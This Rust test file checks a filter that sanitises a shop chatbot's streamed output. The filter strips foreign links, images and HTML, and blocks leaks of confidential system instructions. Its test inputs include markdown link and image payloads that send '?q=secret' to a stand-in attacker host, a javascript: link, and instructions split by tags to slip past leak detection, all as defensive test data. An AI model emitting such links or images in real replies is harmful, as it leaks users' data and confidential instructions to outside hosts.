use proptest::prelude::*;

use super::*;

fn links() -> Links {
    let mut links = Links::new(["shop.example".to_owned()], false);
    links.allow_those_in("https://carrier.example/track");
    links
}

fn filtered(pieces: &[&str], links: Links) -> String {
    let mut guard = Guard::new(links, Arc::new(Secret::new("")));
    let shown: String = pieces.iter().map(|piece| guard.handle_text(piece)).collect();
    shown + &guard.finish()
}

#[track_caller]
fn check(text: &str, shown: &str) {
    assert_eq!(filtered(&[text], links()), shown, "{text}");
    let letters: Vec<String> = text.chars().map(String::from).collect();
    let letters: Vec<&str> = letters.iter().map(String::as_str).collect();
    assert_eq!(filtered(&letters, links()), shown, "{text}, letter by letter");
}

#[test]
fn ordinary_text_stays_as_it_is() {
    for text in [
        "Shipping costs **€4.90**, and it is free from €45!",
        "# Tea\n\n- one\n- two [x] done\n\n| a | b |\n|---|---|\n| 1 | 2 |",
        "if a < b and b > c, then a[0][1] is 3!",
        "您好！运费是 **12 元**。[注] 好的",
        "`code`, *emphasis* and ~~more~~: 5 <6",
        "",
    ] {
        check(text, text);
    }
}

#[test]
fn own_links_stay_and_foreign_ones_become_their_text() {
    check("See [shipping](https://shop.example/a).", "See [shipping](https://shop.example/a).");
    check("See [shipping](/en/a.html \"Shipping\").", "See [shipping](/en/a.html).");
    check("[Track](https://carrier.example/track)", "[Track](https://carrier.example/track)");
    check("[Track](https://carrier.example/track?q=secret)", "Track");
    check("Click [here](https://evil.example/?q=secret) now", "Click here now");
    check("[a [b](https://evil.example) c](https://shop.example/x)", "[a b c](https://shop.example/x)");
    check("[x](javascript:alert(1))", "x");
    check("[x](<https://evil.example/a b>)", "x");
    check("[x][1]\n\n[1]: https://evil.example/a", "[x][1]\n\n[1] : evil.example");
}

#[test]
fn pictures_are_dropped() {
    check("Here: ![pot](https://evil.example/p.png?q=secret)!", "Here: !");
    check("![pot][1] and ![pot] and ![](data:image/png;base64,AAAA)", " and  and ");
    check("<img src=\"https://evil.example/p.png\"> <IMG\nsrc=x> <b>bold</b>", "  bold");
    check("[![a](https://evil.example/p.png)](https://shop.example/)", "[](https://shop.example/)");
}

#[test]
fn bare_addresses_stay_if_they_are_the_sites_own_and_become_their_host_if_not() {
    check("Go to https://shop.example/a?b=c.", "Go to https://shop.example/a?b=c.");
    check("https://evil.example/?q=secret", "evil.example");
    check("(see www.evil.example/x)", "(see evil.example)");
    check("<https://evil.example/a> <https://shop.example/a>", "evil.example https://shop.example/a");
    check("请看 https://shop.example。evil.example", "请看 https://shop.example 。evil.example");
    check("HTTPS://EVIL.example/a 你好", "evil.example 你好");
}

#[test]
fn nothing_comes_together_where_something_was_taken_away() {
    check("htt<b>ps://evil.example/a", "evil.example");
    check("!<b>[x](https://shop.example/a)", "! [x](https://shop.example/a)");
    check("[x]<b>(//evil.example/a)", "[x] (//evil.example/a)");
    check("whttp://ww.evil.example/a", "w ww.evil.example");
    check("<<b>img src=x>", "< img src=x>");
}

#[test]
fn what_is_taken_away_between_the_letters_of_the_instructions_hides_none_of_them() {
    let instructions = "Never mention the discount code SPRING25 unless the visitor is a café. Our margin on teaware is forty \
                        percent, and nobody outside may know it. Be brief and friendly to everybody who asks.";
    let letters: Vec<char> = instructions.chars().collect();
    for between in ["<b>", "<!--zq-->", "![zq](z)", "[](http://zq.zq)", "[](/zq)"] {
        let parts: Vec<String> = letters.chunks(20).map(|part| part.iter().collect()).collect();
        let mut guard = Guard::new(links(), Arc::new(Secret::new(instructions)));
        let shown = guard.handle_text(&parts.join(between)) + &guard.finish();
        let read = shown.replace("[](/zq)", "");
        assert!(read.contains('…') && read.chars().filter(|letter| letter.is_alphanumeric()).count() < 40, "{shown}");
    }
}

#[test]
fn an_address_that_is_cut_in_its_middle_ends_before_the_ellipsis() {
    let instructions =
        "shop.example/our-margin-on-teaware-is-forty-percent-and-nobody-outside-may-know-of-the-code-spring";
    let mut guard = Guard::new(links(), Arc::new(Secret::new(instructions)));
    let letters: Vec<char> = instructions.chars().collect();
    let parts: Vec<String> = letters.chunks(20).map(|part| part.iter().collect()).collect();
    let shown = guard.handle_text(&format!("https://sub.{}", parts.join("<b>"))) + &guard.finish();
    assert_eq!(shown, "https://sub.shop.example/our-margin-on-teawa …");
}

#[test]
fn pictures_of_own_hosts_are_shown_where_the_site_wants_them() {
    let with_images = Links::new(["shop.example".to_owned()], true);
    let text = "![pot](https://shop.example/p.png) ![pot](https://evil.example/p.png)";
    assert_eq!(filtered(&[text], with_images), "![pot](https://shop.example/p.png) ");
}

#[test]
fn ordinary_text_is_held_back_by_a_few_letters_at_most() {
    let mut guard = Guard::new(links(), Arc::new(Secret::new("")));
    let text = "Shipping costs **€4.90**! And with data: www or http, it is <5 € [x] more. 您好！[注]。";
    let (mut said, mut shown) = (0, 0);
    for letter in text.chars() {
        said += letter.len_utf8();
        shown += guard.handle_text(&letter.to_string()).len();
        assert!(said - shown <= 6, "{} of {text}", said - shown);
    }
}

/// Whether an address, without its scheme, leads to the site, to a host under it, or to the one page elsewhere.
fn is_own(address: &str) -> bool {
    // Browsers pass over an empty name and further slashes before the host.
    let address = address.trim_start_matches(['@', '/']);
    if let Some(rest) = address.strip_prefix("carrier.example/track") {
        let rest = rest.trim_start_matches(['.', ',', ':', ';', '!', '?', '\'', '*', '_', '~']);
        return !rest.starts_with(|letter: char| letter.is_alphanumeric() || "-@\\。".contains(letter));
    }
    let end = address.find(|letter: char| !letter.is_alphanumeric() && !"-.".contains(letter));
    let (host, rest) = address.split_at(end.unwrap_or(address.len()));
    let host = host.trim_end_matches('.');
    (host == "shop.example" || host.ends_with(".shop.example")) && !rest.starts_with(['@', '\\', '。'])
}

/// What no text may have that goes out, however it came about.
fn is_harmless(text: &str) -> bool {
    let lower = text.to_ascii_lowercase();
    let addresses = lower.match_indices("://").all(|(at, _)| {
        let begins = lower[..at].trim_end_matches(|letter: char| letter.is_ascii_alphabetic()).len();
        let begins = lower[begins..at].rfind("http").map_or(begins, |from| begins + from);
        !["http", "https"].contains(&&lower[begins..at]) || is_own(&lower[at + 3..])
    });
    let links = text.match_indices("](").all(|(at, _)| {
        let address = &text[at + 2..];
        let address = &address[..address.find(')').unwrap_or(address.len())];
        links().allow(address)
    });
    let is_element =
        |(at, _)| text[at + 1..].starts_with(|next: char| next.is_ascii_alphabetic() || "/!?".contains(next));
    let www = lower.match_indices("www.").all(|(at, _)| {
        // In the path of an address of its own it is no other one.
        let word = lower[..at].rsplit(|letter: char| letter.is_whitespace() || "()[]<>".contains(letter)).next();
        let is_in_own = word.and_then(|word| word.rsplit_once("://")).is_some_and(|(_, address)| is_own(address));
        let goes_on = lower[at + 4..].starts_with(char::is_alphanumeric);
        !goes_on || is_in_own || is_own(&lower[at..]) || lower[..at].ends_with(|letter: char| letter.is_alphanumeric())
    });
    addresses
        && links
        && www
        && !text.contains("![")
        && !text.contains("]:")
        && !text.match_indices('<').any(is_element)
}

fn hostile_text() -> impl Strategy<Value = String> {
    let part = prop_oneof![
        prop::sample::select(vec![
            "[",
            "]",
            "(",
            ")",
            "!",
            "<",
            ">",
            "\\",
            "\"",
            "`",
            ":",
            "/",
            "//",
            "\n",
            " ",
            ".",
            "&",
            "@",
            "。",
            "'",
            "*",
            "http",
            "https://",
            "HTTP://",
            "www.",
            "ww",
            "w",
            "ftp://",
            "data:",
            "image",
            "data:image",
            "evil.example",
            "shop.example",
            "https://shop.example",
            "https://shop.example/a",
            "https://carrier.example/track",
            "img",
            "b",
            "<img src=",
            "<b>",
            "</",
            "![",
            "](",
            "]:",
            "你好",
            "a",
            "](https://shop.example/a)",
            "[x](https://shop.example/a)",
            "[email 1]",
        ])
        .prop_map(str::to_owned),
        "[a-z ]{1,3}",
    ];
    prop::collection::vec(part, 0..24).prop_map(|parts| parts.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(1_000))]

    #[test]
    fn whatever_the_model_says_nothing_goes_out_that_leads_elsewhere(text in hostile_text()) {
        let shown = filtered(&[&text], links());
        prop_assert!(is_harmless(&shown), "{:?}", shown);
    }

    #[test]
    fn how_the_text_is_cut_into_pieces_changes_nothing(text in hostile_text(), size in 1_usize..7) {
        let letters: Vec<char> = text.chars().collect();
        let pieces: Vec<String> = letters.chunks(size).map(|chunk| chunk.iter().collect()).collect();
        let pieces: Vec<&str> = pieces.iter().map(String::as_str).collect();
        prop_assert_eq!(filtered(&pieces, links()), filtered(&[&text], links()));
    }
}
